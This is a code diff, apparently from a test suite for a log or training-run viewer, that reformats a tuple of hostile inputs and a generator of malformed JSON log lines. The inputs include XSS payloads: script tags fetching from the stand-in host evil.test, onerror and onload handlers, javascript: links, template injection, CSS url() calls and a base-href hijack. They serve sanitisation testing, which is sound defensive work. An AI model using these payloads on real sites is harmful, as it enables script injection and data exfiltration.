@@ -46,14 +46,23 @@ PROMPTS = (
     (r"Evaluate \[\sum_{{k=1}}^{{{a}}} \left(k + \frac{{{b}}}{{{a}}}\right).\]", "{s}"),
 )
 EVIL = (
-    '<script>window.hacked = 1; fetch("http://evil.test/script")</script><img src=x onerror="window.hacked=1;alert(1)">',
+    (
+        '<script>window.hacked = 1; fetch("http://evil.test/script")</script><img src=x '
+        'onerror="window.hacked=1;alert(1)">'
+    ),
     "${window.hacked=1} ${alert(1)} `${alert(2)}` {{value}} {{constructor.constructor('alert(1)')()}} \\boxed{7}",
     "![img](http://evil.test/i.png) [link](http://evil.test) [js](javascript:alert(1)) <http://evil.test/auto>",
     "<style>*{display:none!important;background:url(http://evil.test/css)}</style><link rel=stylesheet href=http://evil.test/l.css>",
     '<iframe src="http://evil.test/frame"></iframe><svg/onload=alert(1)><a href="javascript:alert(1)">x</a><base href=http://evil.test>',
     "a\u202eesrever\u202c \u200b\u200d\ufeff zero\u2066width\u2069 \u0000NUL \u0007 \x1b[31m Z" + "\u0301" * 400,
-    r"$\text{<img src=x onerror=alert(1)>}$ \(\frac{<script>}{1}\) $$\href{javascript:alert(1)}{x}$$ $\boxed{\sqrt[3]{2}}$",
-    '</pre></div></template><div style="position:fixed;inset:0;background:red;z-index:99999">overlay</div>"\' autofocus onfocus=alert(1) x="',
+    (
+        r"$\text{<img src=x onerror=alert(1)>}$ \(\frac{<script>}{1}\) $$\href{javascript:alert(1)}{x}$$ "
+        r"$\boxed{\sqrt[3]{2}}$"
+    ),
+    (
+        '</pre></div></template><div style="position:fixed;inset:0;background:red;z-index:99999">overlay</div>"\' '
+        'autofocus onfocus=alert(1) x="'
+    ),
 )
 
 
@@ -311,7 +320,8 @@ def hostile_run(directory: Path, megabytes: float = 5.0) -> Path:
             }
             file.write(json.dumps(row) + "\n")
         file.write(
-            '{"step": 31, "rollout/reward_mean": NaN}\n{"step": -1}\n[]\n{"step": "x"}\nnot json\n{"step": 31, "ebpo/shrinkage": 1e999}\n{"torn'
+            '{"step": 31, "rollout/reward_mean": NaN}\n{"step": -1}\n[]\n{"step": "x"}\nnot json\n{"step": 31, '
+            '"ebpo/shrinkage": 1e999}\n{"torn'
         )
     rows = []
     for group, text in enumerate(evil):
